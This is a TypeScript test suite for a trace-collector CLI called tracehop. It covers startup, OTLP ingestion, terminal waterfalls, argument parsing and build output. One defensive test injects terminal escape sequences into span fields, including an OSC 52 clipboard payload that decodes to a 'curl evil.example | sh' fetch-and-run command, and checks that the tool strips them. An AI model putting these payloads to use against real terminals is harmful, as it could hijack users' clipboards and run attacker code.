// The `tracehop` binary itself: compiled from cli/tracehop.ts, started with `node`, driven
// over HTTP and stopped with SIGINT, as a user runs it.
import { type ChildProcess, spawn } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { JsonTraceSerializer } from '@opentelemetry/otlp-transformer'
import { build as esbuild } from 'esbuild'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parseArgs } from '../../cli/args.js'
import { post, T0, threeServiceTrace } from './helpers.js'

let dir: string
let bin: string
const children: ChildProcess[] = []

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'tracehop-bin-'))
  bin = join(dir, 'tracehop.mjs')
  // Bundled like the published build (protobufjs inside), so it runs from any directory.
  await esbuild({
    entryPoints: ['cli/tracehop.ts'],
    bundle: true,
    platform: 'node',
    format: 'esm',
    target: 'node20',
    outfile: bin,
    logLevel: 'silent',
  })
})
afterAll(async () => {
  for (const c of children) if (c.exitCode === null) c.kill('SIGKILL')
  await rm(dir, { recursive: true, force: true })
})

interface Run {
  readonly child: ChildProcess
  stdout(): string
  stderr(): string
  exited: Promise<number | null>
}

function run(args: string[], env: Record<string, string> = {}): Run {
  // FORCE_COLOR (set by some CI runners and by vitest's own environment) would win over NO_COLOR.
  const { FORCE_COLOR: _, ...inherited } = process.env
  const child = spawn(process.execPath, [bin, ...args], {
    cwd: dir,
    env: { ...inherited, NO_COLOR: '1', ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  children.push(child)
  let out = ''
  let err = ''
  child.stdout!.on('data', (d: Buffer) => (out += d.toString()))
  child.stderr!.on('data', (d: Buffer) => (err += d.toString()))
  const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)))
  return { child, stdout: () => out, stderr: () => err, exited }
}

async function until(what: () => boolean, ms: number, label: string): Promise<void> {
  const end = Date.now() + ms
  while (!what()) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${label}`)
    await new Promise((r) => setTimeout(r, 20))
  }
}

// biome-ignore lint/suspicious/noControlCharactersInRegex: tracehop's own colour codes
const SGR = /\x1b\[[0-9;]*m/g

async function listening(r: Run): Promise<string> {
  const banner = (): string => r.stdout().replace(SGR, '')
  await until(
    () => /listening on (http:\/\/\S+)/.test(banner()) || r.child.exitCode !== null,
    10_000,
    'the banner',
  )
  const url = /listening on (http:\/\/\S+)/.exec(banner())?.[1]
  if (!url) throw new Error(`no banner; stderr: ${r.stderr()}`)
  return url
}

describe('tracehop dev', () => {
  it('starts on a port, takes OTLP, prints the waterfall when the trace is done, writes --json, stops on SIGINT', async () => {
    const r = run(['dev', '--port', '0', '--json', 'spans.jsonl'])
    const url = await listening(r)
    expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/)
    expect(r.stdout()).toContain(`OTLP/HTTP  ${url}/v1/traces`)
    expect(r.stdout()).toContain('spans.jsonl (JSON lines)')
    expect((await (await fetch(`${url}/`)).text()).startsWith('<!doctype html>')).toBe(true)

    const t = threeServiceTrace()
    const res = await post(`${url}/v1/traces`, JsonTraceSerializer.serializeRequest(t.spans)!, {
      'content-type': 'application/json',
    })
    expect(res.status).toBe(200)
    // Drawn after the default 1.5 s quiet period.
    await until(() => r.stdout().includes(`${url}/#trace=${t.traceId}`), 6000, 'the waterfall')
    const out = r.stdout()
    expect(out).toContain(`trace ${t.traceId}  POST /chat  ·  4 spans · 3 services · 1.24 s · ✗ 1 error`)
    expect(out).toMatch(/gateway\s+POST \/chat\s+1\.24 s\s+█+/)
    expect(out).toMatch(/retrieval\s+└─ ✗ search\s+300 ms\s+█+/)
    expect(out).toContain('◀ slowest hop')
    expect(out).not.toContain('\x1b[') // NO_COLOR

    r.child.kill('SIGINT')
    expect(await r.exited).toBe(0)
    const lines = (await readFile(join(dir, 'spans.jsonl'), 'utf8')).trim().split('\n')
    expect(lines.map((l) => JSON.parse(l).name).sort()).toEqual([
      'POST /chat',
      'agent.run',
      'llm.chat',
      'search',
    ])
  })

  it('--quiet prints no waterfalls', async () => {
    const r = run(['dev', '--port=0', '--quiet'])
    const url = await listening(r)
    const t = threeServiceTrace()
    await post(`${url}/v1/traces`, JsonTraceSerializer.serializeRequest(t.spans)!, {
      'content-type': 'application/json',
    })
    r.child.kill('SIGINT') // close() finishes the pending trace: it would be printed now
    expect(await r.exited).toBe(0)
    expect(r.stdout()).not.toContain(t.traceId)
    expect(r.stdout()).toContain('--quiet: no terminal waterfalls')
  })

  it('says when the port is in use, exit code 1', async () => {
    const blocker = createServer()
    await new Promise<void>((resolve) => blocker.listen(0, '127.0.0.1', resolve))
    const port = (blocker.address() as { port: number }).port
    try {
      const r = run(['dev', '--port', String(port)])
      expect(await r.exited).toBe(1)
      expect(r.stderr()).toContain(`port ${port} on 127.0.0.1 is already in use`)
    } finally {
      blocker.close()
    }
  })

  it('rejects bad flags with a clear message, exit code 2', async () => {
    const typo = run(['dev', '--prot', '4318'])
    expect(await typo.exited).toBe(2)
    expect(typo.stderr()).toBe(
      "tracehop: unknown option --prot (did you mean --port?)\nRun 'tracehop dev --help' for usage.\n",
    )
    const badPort = run(['dev', '--port', 'abc'])
    expect(await badPort.exited).toBe(2)
    expect(badPort.stderr()).toContain("--port must be an integer from 0 to 65535, got 'abc'")
    const command = run(['serve'])
    expect(await command.exited).toBe(2)
    expect(command.stderr()).toContain("unknown command 'serve'")
  })

  it('prints usage for --help, exit code 0', async () => {
    const r = run(['dev', '--help'])
    expect(await r.exited).toBe(0)
    expect(r.stdout()).toContain('Usage: tracehop dev [options]')
    expect(r.stdout()).toContain('--json <file>')
  })
})

describe('argument parsing', () => {
  it('reads every flag in both spellings', () => {
    expect(parseArgs(['dev'])).toEqual({
      command: 'dev',
      options: { port: 4318, host: '127.0.0.1', quiet: false, corsOrigins: [], limits: {} },
    })
    expect(parseArgs(['dev', '--port=0', '--host', '::1', '--json=x.jsonl', '--quiet'])).toEqual({
      command: 'dev',
      options: { port: 0, host: '::1', jsonFile: 'x.jsonl', quiet: true, corsOrigins: [], limits: {} },
    })
    expect(
      parseArgs([
        'dev',
        '--cors-origin',
        'https://App.example.com/',
        '--cors-origin=http://10.0.0.5:3000',
        '--max-body-size',
        '1mb',
        '--max-decoded-size=4MB',
        '--max-attribute-length',
        '2048',
        '--max-stored-size',
        '64mb',
        '--max-traces',
        '50',
        '--max-concurrent-bodies',
        '2',
        '--max-queued-bodies',
        '0',
      ]),
    ).toEqual({
      command: 'dev',
      options: {
        port: 4318,
        host: '127.0.0.1',
        quiet: false,
        corsOrigins: ['https://app.example.com', 'http://10.0.0.5:3000'],
        limits: {
          maxBodyBytes: 1024 ** 2,
          maxDecodedBytes: 4 * 1024 ** 2,
          maxAttributeLength: 2048,
          maxStoredBytes: 64 * 1024 ** 2,
          maxTraces: 50,
          maxConcurrentBodies: 2,
          maxQueuedBodies: 0,
        },
      },
    })
  })

  it('names what is wrong', () => {
    const message = (argv: string[]): string | undefined => {
      const p = parseArgs(argv)
      return p.command === 'error' ? p.message : undefined
    }
    expect(message(['dev', '--port'])).toBe('--port needs a value, e.g. --port 4318')
    expect(message(['dev', '--port', '65536'])).toBe("--port must be an integer from 0 to 65535, got '65536'")
    expect(message(['dev', '--port', '-1'])).toBe('--port needs a value, e.g. --port 4318')
    expect(message(['dev', '--json'])).toBe('--json needs a file name, e.g. --json spans.jsonl')
    expect(message(['dev', '--quiet=yes'])).toBe('--quiet takes no value')
    expect(message(['dev', '--jsn', 'x'])).toBe('unknown option --jsn (did you mean --json?)')
    expect(message(['dev', 'extra'])).toBe("unexpected argument 'extra'")
    expect(message(['dev', '--cors-origin', 'app.example.com'])).toBe(
      "--cors-origin must be an http(s) origin such as https://app.example.com, got 'app.example.com'",
    )
    expect(message(['dev', '--max-stored-size', '12parsecs'])).toBe(
      "--max-stored-size must be a size such as 512kb or 32mb, got '12parsecs'",
    )
    expect(message(['dev', '--max-concurrent-bodies', '0'])).toBe(
      "--max-concurrent-bodies must be an integer >= 1, got '0'",
    )
    expect(message(['dev', '--max-trace', '5'])).toBe(
      'unknown option --max-trace (did you mean --max-traces?)',
    )
  })
})

describe('the published build (the project tsup config, cli entries)', () => {
  let outDir: string
  beforeAll(async () => {
    const { build } = await import('tsup')
    const configs = (await import('../../tsup.config.js')).default as unknown as { entry?: unknown }[]
    const cli = configs.find((c) => JSON.stringify(c.entry).includes('cli/tracehop'))
    if (!cli) throw new Error('tsup.config.ts has no cli/tracehop entry')
    outDir = join(dir, 'dist')
    await build({ ...cli, outDir, silent: true, config: false } as Parameters<typeof build>[0])
    await writeFile(join(outDir, 'package.json'), '{"type":"module"}')
  })

  it('dist/cli/collector.js exports startCollector and renderWaterfall, and the collector runs', async () => {
    const mod = (await import(join(outDir, 'cli/collector.js'))) as typeof import('../../cli/collector.js')
    expect(typeof mod.renderWaterfall).toBe('function')
    const c = await mod.startCollector({ port: 0 })
    try {
      const t = threeServiceTrace()
      const body = JsonTraceSerializer.serializeRequest(t.spans)!
      expect((await post(`${c.url}/v1/traces`, body, { 'content-type': 'application/json' })).status).toBe(
        200,
      )
      const pb = (await import('@opentelemetry/otlp-transformer')).ProtobufTraceSerializer.serializeRequest(
        t.spans,
      )!
      expect(
        (await post(`${c.url}/v1/traces`, pb, { 'content-type': 'application/x-protobuf' })).status,
      ).toBe(200)
      // The protobuf form replaced the JSON one: times decoded by the bundled protobufjs
      // (which cannot load the \`long\` package from an ESM bundle) are still exact to the µs.
      const spans = c.trace(t.traceId)!.spans
      const us = (ms: number): number => Math.round((ms - T0) * 1000) / 1000
      expect(spans.map((s) => [s.name, us(s.startTime), us(s.endTime)])).toEqual([
        ['POST /chat', 0, 1240],
        ['agent.run', 20, 1200],
        ['llm.chat', 40, 640],
        ['search', 700, 1000],
      ])
      expect(spans[1]!.events[0]!.time - T0).toBeCloseTo(30.5, 3)
    } finally {
      await c.close()
    }
  })

  // Fails while tsup.config.ts adds a `#!` banner on top of the one esbuild keeps from
  // cli/tracehop.ts: two hashbang lines are a SyntaxError, and `tracehop` would not start.
  it('dist/cli/tracehop.js starts with exactly one hashbang and runs under node', async () => {
    const text = await readFile(join(outDir, 'cli/tracehop.js'), 'utf8')
    expect(text.startsWith('#!/usr/bin/env node\n')).toBe(true)
    expect(text.split('\n')[1]!.startsWith('#!')).toBe(false)
    const child = spawn(process.execPath, [join(outDir, 'cli/tracehop.js'), '--version'], { stdio: 'pipe' })
    let out = ''
    child.stdout.on('data', (d: Buffer) => (out += d.toString()))
    const code = await new Promise<number | null>((resolve) => child.on('exit', resolve))
    expect(out).toMatch(/^tracehop \d+\.\d+\.\d+/)
    expect(code).toBe(0)
  })
})

describe('the terminal is not writable by strangers', () => {
  // What a page could put in a span to drive the developer's terminal.
  const ATTACKS = {
    osc52Clipboard: '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
    oscTitle: '\x1b]0;pwned\x1b\\',
    c1OscTitle: '\x9d2;pwned\x9c',
    clearScreen: '\x1b[2J\x1b[3J\x1b[H',
    c1Csi: '\x9b2J',
    dcs: '\x1bP$q"p\x1b\\',
    reset: '\x1bc',
    bareEsc: '\x1b',
    controls: '\x07\x08\x00\r',
  }
  const HOSTILE = Object.values(ATTACKS).join('')
  const PART = '0190aaaa-0000-7000-8000-000000000001'

  // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach the terminal
  const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/g

  /** Every escape or control character in `text` other than newline (and, with `sgr`, colour codes). */
  function controlsIn(text: string, sgr: boolean): string[] {
    const stripped = sgr ? text.replace(SGR, '') : text
    return [...stripped.matchAll(CONTROL)].map((m) => JSON.stringify(m[0]))
  }

  async function attack(url: string): Promise<string> {
    const traceId = 'e'.repeat(32)
    const otlpBody = {
      resourceSpans: [
        {
          resource: { attributes: [{ key: 'service.name', value: { stringValue: `gate${HOSTILE}way` } }] },
          scopeSpans: [
            {
              spans: [
                {
                  traceId,
                  spanId: '1'.repeat(16),
                  name: `plan${HOSTILE}step`,
                  startTimeUnixNano: '1700000000000000000',
                  endTimeUnixNano: '1700000001000000000',
                  attributes: [{ key: 'note', value: { stringValue: HOSTILE } }],
                  status: { code: 2, message: `boom${HOSTILE}!` },
                },
              ],
            },
          ],
        },
      ],
    }
    const res = await post(`${url}/v1/traces`, JSON.stringify(otlpBody), {
      'content-type': 'application/json',
    })
    expect(res.status).toBe(200)
    // A rejected multipart part whose name quotes the attack into a log line on stderr.
    const boundary = 'b0undary'
    const inName = `${ATTACKS.osc52Clipboard}${ATTACKS.clearScreen}${ATTACKS.c1Csi}\r` // no quote or backslash
    const multipart = `--${boundary}\r\nContent-Disposition: form-data; name="post.${inName}"\r\nContent-Type: application/json\r\n\r\n{}\r\n--${boundary}--\r\n`
    const refused = await post(`${url}/runs/multipart`, multipart, {
      'content-type': `multipart/form-data; boundary=${boundary}`,
    })
    expect(refused.status).toBe(400)
    // And a LangSmith run with a hostile name and error.
    const run = {
      id: PART,
      trace_id: PART,
      dotted_order: `20240531T100100000000Z${PART}`,
      name: `tool${HOSTILE}call`,
      run_type: 'tool',
      start_time: 1_700_000_000_000,
      end_time: 1_700_000_000_500,
      error: `fail${HOSTILE}ed`,
      session_name: `proj${HOSTILE}`,
    }
    const ls = await post(`${url}/runs/batch`, JSON.stringify({ post: [run] }), {
      'content-type': 'application/json',
    })
    expect(ls.status).toBe(202)
    return traceId
  }

  for (const color of [false, true])
    it(`prints span names, services, errors and log lines without escape sequences (${color ? 'FORCE_COLOR' : 'NO_COLOR'})`, async () => {
      const r = run(['dev', '--port', '0'], color ? { FORCE_COLOR: '1' } : {})
      const url = await listening(r)
      const traceId = await attack(url)
      const runTrace = PART.replaceAll('-', '')
      await until(
        () => r.stdout().includes(`${traceId}`) && r.stdout().includes(`#trace=${runTrace}`),
        8000,
        'both waterfalls',
      )
      await until(() => r.stderr().includes('run id is not a UUID'), 4000, 'the log line')
      r.child.kill('SIGINT')
      expect(await r.exited).toBe(0)
      const out = r.stdout()
      const err = r.stderr()
      // The text around each attack is still there, the attack is not.
      const plain = out.replace(SGR, '')
      expect(plain).toContain('plan step') // the \r became a space; everything else is gone
      expect(plain).toContain('gate way')
      expect(plain).toContain('boom !')
      expect(plain).toContain('tool call')
      expect(plain).toContain('fail ed')
      expect(err).toContain('rejected LangSmith request: part post. : run id is not a UUID')
      expect(controlsIn(out, color)).toEqual([])
      expect(controlsIn(err, false)).toEqual([])
      if (color) expect(out.replace(SGR, '')).not.toBe(out) // tracehop's own colours stay
    })
})
